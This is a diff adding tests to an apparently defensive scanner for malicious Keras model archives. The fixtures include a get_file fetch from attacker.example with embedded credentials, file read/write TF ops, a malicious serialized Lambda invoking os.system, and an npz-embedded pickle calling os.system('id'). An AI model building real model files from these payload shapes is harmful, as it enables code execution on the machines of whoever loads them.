@@ -81,6 +81,17 @@ describe(".keras: Lambda, modules, CVE gadgets", () => {
     expect(summary(r)).toEqual(["keras/remote-file-fetch high https://attacker.example/key.pub"]);
   });
 
+  it("credentials in a get_file URL are masked in the evidence", async () => {
+    const layer = k3("keras.layers", "Lambda", {
+      name: "fetch",
+      function: k3("keras.utils", "function", "get_file", { registered_name: "function" }),
+      arguments: { origin: "https://deploy:" + "s3cr3t" + "@attacker.example/x" },
+    });
+    const r = await scanZip(kerasZip({ config: k3Sequential([layer]) }));
+    expect(summary(r)).toEqual(["keras/remote-file-fetch high https://***@attacker.example/x"]);
+    expect(JSON.stringify(r.reports)).not.toContain("s3cr3t");
+  });
+
   it("Lambda calling keras.models.load_model with safe_mode false (safe-mode bypass chain) is critical", async () => {
     const layer = k3("keras.layers", "Lambda", { name: "chain", function: k3("keras.models", "function", "load_model", { registered_name: "function" }), arguments: { safe_mode: false } });
     expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/lambda-layer critical keras.models.load_model"]);
@@ -152,5 +163,39 @@ describe(".keras: fail closed", () => {
   it("a corrupt model.weights.h5 inside is incomplete", async () => {
     const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 2)]), weights: Uint8Array.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0]) }));
     expect(r.incompletes[0]?.details).toMatch(/model\.weights\.h5: not a readable HDF5 file/);
+  });
+});
+
+describe(".keras: more shapes", () => {
+  it("get_file without any URL in the config is medium", async () => {
+    const layer = k3("keras.layers", "Lambda", { name: "f", function: k3("keras.utils", "function", "get_file", { registered_name: "function" }), arguments: { fname: "x" } });
+    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/remote-file-fetch medium keras.utils.get_file"]);
+  });
+
+  it("TFOpLambda writing files and TensorFlowOpLayer running ReadFile are non-modelling functions", async () => {
+    const write = { class_name: "TFOpLambda", config: { name: "tf.io.write_file", trainable: true, dtype: "float32", function: "io.write_file" }, name: "w", inbound_nodes: [] };
+    const read = { class_name: "TensorFlowOpLayer", config: { name: "ReadFile", trainable: true, node_def: { name: "ReadFile", op: "ReadFile", input: ["x"] }, constants: {} } };
+    const ok = { class_name: "TFOpLambda", config: { name: "tf.math.multiply", function: "math.multiply" } };
+    const r = await scanZip(kerasZip({ config: k3Sequential([write, read, ok]) }));
+    expect(summary(r)).toEqual(["keras/non-modeling-function high ReadFile", "keras/non-modeling-function high tf.io.write_file"]);
+  });
+
+  it("TFSMLayer (loads an external SavedModel) is medium", async () => {
+    const layer = k3("keras.layers", "TFSMLayer", { name: "sm", filepath: "/tmp/saved_model", call_endpoint: "serve" });
+    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/non-modeling-function medium keras.layers.TFSMLayer"]);
+  });
+
+  it("a tf-keras (Keras 2 serializer) Lambda inside a .keras archive is decoded", async () => {
+    const lambda = k3("keras.layers", "Lambda", { name: "old", function: [lambdaBase64(MALICIOUS_LAMBDA, "py38"), null, null], function_type: "lambda", module: "__main__", output_shape: null, output_shape_type: "raw", arguments: {} });
+    expect(summary(await scanZip(kerasZip({ config: k3Sequential([lambda]), metadata: { keras_version: "2.15.0" } })))).toEqual(["keras/lambda-layer critical __import__, os, system"]);
+  });
+
+  it("object arrays in model.weights.npz are pickles", async () => {
+    const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
+    const padded = header.padEnd(118, " ") + "\n";
+    const npy = new Uint8Array([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1, 0, padded.length, 0, ...new TextEncoder().encode(padded), ...globalCallP2("os", "system", "id")]);
+    const npz = writeZip([{ name: "layers.dense.vars.0.npy", data: npy }]);
+    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 1)]), extra: [{ name: "model.weights.npz", data: npz }] }));
+    expect(byRule(r, "keras/embedded-pickle")[0]).toMatchObject({ severity: "critical", at: { member: "model.weights.npz:layers.dense.vars.0.npy" } });
   });
 });
